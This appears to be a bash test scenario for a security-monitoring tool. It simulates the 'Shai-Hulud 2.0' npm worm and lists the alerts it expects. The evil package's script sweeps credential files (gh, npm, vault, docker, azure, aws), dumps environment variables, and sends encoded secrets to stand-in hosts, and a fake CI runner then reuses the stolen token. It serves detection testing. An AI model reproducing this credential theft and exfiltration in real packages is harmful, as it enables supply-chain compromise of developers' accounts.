# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "Shai-Hulud 2.0: a detached child outlives the installer, writes what it took, a new runner works with it"

package honest 'node index.js'
script node_modules/honest/index.js <<<'setsid bun build.js >/dev/null 2>&1 &'
script node_modules/honest/build.js <<<'printf "{}\n" >"$app/build.json"; printf done >"$rig/built"'
package evil 'node setup_bun.js'
script node_modules/evil/setup_bun.js <<<'setsid bun bun_environment.js >/dev/null 2>&1 &'
script node_modules/evil/bun_environment.js <<'X'
sleep 0.5
content ~/.config/gh/hosts.yml; gh=$content; token gho_
for file in .npmrc .vault-token .docker/config.json .azure/accessTokens.json .aws/credentials; do
	content ~/$file; taken+=$content
done
printf '{"hosts": "%s"}\n' "$gh" >"$app/contents.json"
printf '{"found": "%s"}\n' "$taken" >"$app/truffleSecrets.json"
compgen -e >"$app/environment.json"
printf '{}\n' >"$app/cloud.json"
http POST api.github.com:8080/repos/victim/contents "$token" "$(printf %s "$gh$taken" | base64 | base64)"
http GET collector:8443/files/foreign
curl -s -H "Authorization: token $answer" http://api.github.com:8080/user/repos
printf done >"$rig/taken"
X
cp /bin/bash $bin/bun
issue foreign github
cp $rig/tokens/foreign $rig/files
native gh <<<'content ~/.config/gh/hosts.yml; token gho_; http GET api.github.com:8080/user "$token"'
native Runner.Listener <<<'Runner.Worker spawnclient'
native Runner.Worker <<'X'
content "$app/contents.json"; token gho_
export GITHUB_ACTIONS=true GITHUB_REPOSITORY=victim/other GITHUB_WORKFLOW=formatter GITHUB_JOB=lint GITHUB_RUN_ID=1 GH_TOKEN=$token
node step.js
X
script step.js <<<'http GET api.github.com:8080/repos "$GH_TOKEN"'
script steps.sh <<'X'
#!/bin/bash
npm install "$1" && await "$2" # the job's next step goes on
X

owner() { job triage -- gh api user; }
innocent() { job build -- ./steps.sh honest $rig/built; }
attack() {
	job build -- ./steps.sh evil $rig/taken
	alarmed credential-copied
	user -- Runner.Listener run
}

expect cross-workflow-reuse High gh # the build
expect cross-workflow-reuse High gh # the new runner
expect credential-sweep Critical
expect unexpected-reader Medium
expect credential-copied Low gh # contents.json
expect credential-copied Low npm vault docker azure aws # truffleSecrets.json, whichever came last
expect new-destination Medium gh # the collector
expect exposed-in-arguments Low foreign
